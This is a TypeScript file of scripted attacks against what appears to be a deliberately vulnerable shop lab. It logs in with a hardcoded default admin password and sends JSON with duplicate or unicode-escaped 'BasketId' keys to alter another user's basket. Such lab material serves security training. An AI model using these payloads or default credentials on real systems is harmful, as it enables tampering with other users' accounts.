import type { Attack, Tools } from '#lab'

/** Logs in as the administrator, who has the first basket, and sends a body unchanged. */
async function smuggle({ logIn, http, expect, settings }: Tools, body: string): Promise<void> {
  const { token } = await logIn(`admin@${settings.domain}`, 'admin123')
  const headers = { 'content-type': 'application/json' }
  const added = await http.post('/api/BasketItems/', body, { token, headers })
  expect(added.status === 200, `the basket answered with ${added.status}`)
}

export const attacks: Attack[] = [
  {
    challenge: 'basketManipulateChallenge',
    name: 'two baskets in one request, one’s own first',
    run: (tools) => smuggle(tools, '{"ProductId":14,"BasketId":"1","quantity":1,"BasketId":"2"}'),
  },
  {
    challenge: 'basketManipulateChallenge',
    name: 'the second one in another spelling',
    run: (tools) => smuggle(tools, '{"ProductId":14,"BasketId":1,"quantity":1,"Basket\\u0049d":3}'),
  },
]
